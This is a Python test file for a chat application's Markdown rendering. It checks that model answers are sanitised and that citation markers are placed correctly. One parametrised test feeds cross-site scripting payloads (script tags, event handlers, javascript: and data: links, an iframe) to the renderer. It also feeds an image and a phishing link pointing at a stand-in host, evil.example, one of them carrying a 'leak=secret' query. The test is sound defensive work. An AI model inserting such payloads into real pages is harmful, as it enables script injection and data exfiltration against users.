"""Model output is rendered as Markdown and sanitised: nothing active survives."""

from __future__ import annotations

import pytest

from apps.chat.citations import render_answer
from apps.knowledge.markdown import render_markdown


def test_lists_tables_code_and_emphasis_are_rendered() -> None:
    html = render_markdown(
        "**Steps**\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x < y`"
    )
    assert "<strong>Steps</strong>" in html and "<ol>" in html and "<li>two</li>" in html
    assert "<table>" in html and "<td>2</td>" in html
    assert "<code>x &lt; y</code>" in html


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        "![tracker](https://evil.example/pixel.png?leak=secret)",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        '<iframe src="https://evil.example"></iframe>',
        '<svg onload="alert(1)"><circle/></svg>',
        '<a href="https://evil.example" onclick="steal()">x</a>',
        "[phish](https://evil.example/login)",
    ],
)
def test_nothing_active_or_remote_survives(attack: str) -> None:
    elements = _elements(render_markdown(f"Answer. {attack}"))
    assert {tag for tag, _ in elements} <= {"p", "a"}, elements
    attributes = {name for _, attrs in elements for name, _ in attrs}
    assert attributes <= {"rel"}, elements  # an <a> without href is inert text


def _elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """The real tags and attributes of ``html`` (escaped text is not a tag)."""
    from html.parser import HTMLParser

    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collector().feed(html)
    return found


def test_links_to_the_answers_own_sources_are_kept_with_safe_rel() -> None:
    html = render_markdown(
        "See [the FAQ](https://example.com/faq).", allowed_links=["https://example.com/faq"]
    )
    assert 'href="https://example.com/faq"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_markers_land_inside_markdown_blocks() -> None:
    content = "- Hotels: **180 euros**\n- Laptops: 36 months"
    end = content.index("\n")
    citation = {"number": 1, "end": end, "title": "Travel <policy>", "url": ""}
    html = render_answer(content, [citation], prefix="cite-9")
    assert '<li>Hotels: <strong>180 euros</strong><a class="cite-marker"' in html
    assert 'aria-label="Source 1: Travel &lt;policy&gt;"' in html
